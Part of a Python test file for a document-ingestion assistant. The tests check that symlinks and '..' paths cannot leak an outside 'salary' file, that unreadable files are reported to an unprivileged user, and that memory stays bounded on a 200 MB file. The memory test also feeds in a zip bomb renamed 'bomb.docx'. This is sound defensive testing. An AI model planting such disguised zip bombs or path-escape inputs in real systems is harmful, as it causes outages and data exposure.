    for name, (_, query) in PRIOR.items():
        assert found(assistant, query, docs / name, PRIOR[name][0].split("\n\n")[1])

    # Nothing outside the folder came in through the link or the '..' path.
    assert "salary" not in stored_text
    assert all(hit.path != str(outside_secret(docs).resolve()) for hit in assistant.search("salary", reader()))


# --- in processes of their own ---------------------------------------------------------------------------------------


def run_worker(spec: dict, *, home: Path | None = None, timeout: int = 240) -> tuple[dict, int]:
    """The worker's JSON output, and the peak resident memory (KB) of the worker alone.

    The peak comes from a small parent of the worker, whose RUSAGE_CHILDREN then holds only that worker:
    pytest's own RUSAGE_CHILDREN would also hold every process any earlier test started.
    """
    parent = (
        "import resource, subprocess, sys; "
        "done = subprocess.run(sys.argv[1:], capture_output=True, text=True); "
        "sys.stderr.write(done.stderr); sys.stdout.write(done.stdout); "
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss); sys.exit(done.returncode)"
    )
    env = {**os.environ, "PYTHONDONTWRITEBYTECODE": "1"}
    if home is not None:  # a user other than root cannot write root's home (caches, matplotlib, ...)
        env |= {"HOME": str(home), "XDG_CACHE_HOME": str(home / ".cache")}
    done = subprocess.run(
        [sys.executable, "-c", parent, sys.executable, str(WORKER), json.dumps(spec)],
        check=False,
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        cwd=Path(__file__).resolve().parents[1],
    )
    assert done.returncode == 0, done.stderr[-3000:]
    *output, peak = done.stdout.strip().splitlines()
    return json.loads(output[-1]), int(peak)


def embedder_cache(embedder, folder: Path) -> Path:
    """Where the worker finds the session's int8 embedding model: an exported one is copied there (no second
    export); the default model's file comes ready-made in its package, so there is nothing to copy."""
    folder.mkdir(parents=True, exist_ok=True)
    manifest = embedder.onnx_file.with_suffix(".json")
    if manifest.is_file():
        for file in (embedder.onnx_file, manifest):
            shutil.copy(file, folder / file.name)
    return folder


def test_unreadable_files_and_folders_are_reported_to_an_unprivileged_user(embedder):
    # pytest's tmp_path sits in a folder only root may enter, so this corpus lives in a folder of its own, given
    # to nobody; the locked file and folder inside it are then locked for the worker, which runs as nobody.
    shared = Path(tempfile.mkdtemp(prefix="bad-input-nobody-"))
    try:
        docs = shared / "docs"
        docs.mkdir()
        write_text(shared / "warm.md", "# Warm\n\nA document ingested first, so the batch starts warm.")
        write_text(docs / "000-before.md", "# Before\n\nThe mail room closes at four.")
        write_text(docs / "zzz-after.md", "# After\n\nThe library lends laptops for two weeks.")
        cases = [case for case in CASES if case.run == "nobody"]
        paths = {case.name: case.make(docs, None) for case in cases}
        cache = embedder_cache(embedder, shared / "embeddings")
        for path in [shared, *shared.rglob("*")]:
            os.chown(path, *NOBODY, follow_symlinks=False)
        spec = {
            "user": NOBODY,
            "settings": {
                "data_dir": str(shared / "data"),
                "qdrant_path": ":memory:",
                "embedding_cache_dir": str(cache),
            },
            "warm_up": [str(shared / "warm.md")],
            "batch": [str(docs)],
            "groups": GROUPS,
            "queries": ["when does the mail room close", "how long can I borrow a laptop"],
        }

        result, _ = run_worker(spec, home=shared)
    finally:
        shutil.rmtree(shared)  # root removes what nobody could not read

    report = result["report"]
    lines = {line["path"]: ("failed", line["reason"]) for line in report["failed"]}
    lines |= {line["path"]: ("skipped", line["reason"]) for line in report["skipped"]}
    assert len(lines) == len(cases)
    for case in cases:
        outcome, reason = lines[str(paths[case.name])]
        assert outcome == case.outcome and case.reason in reason, (case.name, reason)
        assert "user 'nobody'" in reason and "grant read access" in reason
    assert sorted(report["added"]) == sorted(str(docs / name) for name in ("000-before.md", "zzz-after.md"))
    assert str(docs / "000-before.md") in [path for path, _ in result["hits"]["when does the mail room close"]]
    assert str(docs / "zzz-after.md") in [path for path, _ in result["hits"]["how long can I borrow a laptop"]]


def test_memory_stays_bounded_on_a_200_mb_text_file_and_a_zip_bomb(embedder, tmp_path, heavy):
    docs = tmp_path / "docs"
    docs.mkdir()
    write_text(tmp_path / "warm.md", "# Warm\n\nA document ingested first, so the batch starts warm.")
    write_text(docs / "000-before.md", "# Before\n\nThe mail room closes at four.")
    write_text(docs / "zzz-after.md", "# After\n\nThe library lends laptops for two weeks.")
    line = b"Row %07d of a nightly export that nobody split into smaller files.\n"
    with (docs / "export.txt").open("wb") as handle:  # real text this time, not a sparse file
        for block in range(200 * MB // (len(line) * 1000)):
            handle.write(b"".join(line % (block * 1000 + n) for n in range(1000)))
        handle.truncate(200 * MB)
    shutil.copy(heavy.zip_bomb, docs / "bomb.docx")
    spec = {
        "settings": {
            "data_dir": str(tmp_path / "data"),
            "qdrant_path": ":memory:",
            "embedding_cache_dir": str(embedder.onnx_file.parent),
        },
        "warm_up": [str(tmp_path / "warm.md")],
        "batch": [str(docs)],
        "groups": GROUPS,
        "queries": ["when does the mail room close"],
    }

    result, peak_kb = run_worker(spec)

    reasons = {Path(line["path"]).name: line["reason"] for line in result["report"]["failed"]}
    assert set(reasons) == {"export.txt", "bomb.docx"}
    assert reasons["export.txt"].startswith("file too large: 200 MB, limit 100 MB: split it into smaller files")
    assert "ASSISTANT_MAX_FILE_MB" in reasons["export.txt"]
    assert "MB, more than 100 times, as a zip bomb does" in reasons["bomb.docx"]
    assert len(result["report"]["added"]) == 2
    before_mb, peak_mb = result["resident_before_kb"] / 1024, peak_kb / 1024
    print(f"resident before the batch {before_mb:.0f} MB, peak {peak_mb:.0f} MB (bound +{MEMORY_BOUND_MB} MB)")
    assert peak_mb < before_mb + MEMORY_BOUND_MB
